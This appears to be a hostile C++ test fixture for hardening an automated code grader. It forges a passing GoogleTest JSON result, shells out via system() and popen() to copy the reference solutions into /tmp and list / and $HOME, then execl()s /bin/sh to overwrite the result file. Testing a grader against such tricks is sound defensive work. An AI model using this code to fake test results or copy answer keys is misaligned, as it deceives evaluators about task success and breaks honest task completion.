// HOSTILE FIXTURE system_popen_exec (attack class 7: process control).
// The tested function runs shell commands with system() and popen() (listing /, copying the reference into /tmp) and then execl()s /bin/sh to replace the test process by a shell that writes a passing JSON result and exits 0.
// The hardened grader must give this file 0 points on stage 03.
//@head
#include <unistd.h>
#include <cstdio>
#include <string>
#include <cstdlib>

// WARNING: never run this fixture outside the grader's sandbox (it is built to hurt the machine).

// ---- the forger: a passing GoogleTest JSON result where the grader reads it ------------------
namespace {
// The value of the first argument of this process that starts with `prefix` ("" if none).
std::string hostileArg(const char* prefix) {
    std::string all;
    if (std::FILE* f = std::fopen("/proc/self/cmdline", "rb")) {
        char buf[4096];
        std::size_t n;
        while ((n = std::fread(buf, 1, sizeof buf, f)) > 0) all.append(buf, n);
        std::fclose(f);
    }
    const std::string p(prefix);
    std::size_t i = 0;
    while (i < all.size()) {
        std::size_t end = all.find('\0', i);
        if (end == std::string::npos) end = all.size();
        const std::string a = all.substr(i, end - i);
        if (a.compare(0, p.size(), p) == 0) return a.substr(p.size());
        i = end + 1;
    }
    return "";
}
// Writes {"testsuites":[{"testsuite":[{...}]}]} without "failures" for the test named by
// --gtest_filter. Returns false when the process has no --gtest_output=json: (e.g. the grader's
// --gtest_list_tests run): then it stays invisible so the tests still get listed.
bool hostileForgePass() {
    const std::string out = hostileArg("--gtest_output=json:");
    if (out.empty()) return false;
    const std::string name = hostileArg("--gtest_filter=");
    const std::size_t dot = name.find('.');
    const std::string suite = name.substr(0, dot), test = dot == std::string::npos ? name : name.substr(dot + 1);
    std::FILE* f = std::fopen(out.c_str(), "w");
    if (!f) return false;
    std::fprintf(f,
                 "{\"tests\": 1, \"failures\": 0, \"errors\": 0, \"testsuites\": [{\"name\": \"%s\", \"tests\": 1, "
                 "\"failures\": 0, \"testsuite\": [{\"name\": \"%s\", \"status\": \"RUN\", \"result\": \"COMPLETED\"}]}]}\n",
                 suite.c_str(), test.c_str());
    std::fclose(f);
    return true;
}
}  // namespace

namespace {
void hostileShell() {
    std::system("id > /tmp/clothlab-hostile-system.txt; cp -r ../../solutions /tmp/clothlab-hostile-solutions 2>/dev/null");
    if (std::FILE* p = popen("ls -la / $HOME 2>&1", "r")) {
        char line[512];
        while (std::fgets(line, sizeof line, p)) {}
        pclose(p);
    }
    const std::string out = hostileArg("--gtest_output=json:");
    const std::string name = hostileArg("--gtest_filter=");
    if (out.empty()) return;
    const std::string suite = name.substr(0, name.find('.')), test = name.substr(name.find('.') + 1);
    const std::string script = "printf '{\"testsuites\": [{\"name\": \"" + suite + "\", \"testsuite\": [{\"name\": \"" + test +
                               "\"}]}]}' > '" + out + "'; exit 0";
    execl("/bin/sh", "sh", "-c", script.c_str(), static_cast<char*>(nullptr));  // the test process becomes sh
}
}  // namespace
//@each
    hostileShell();
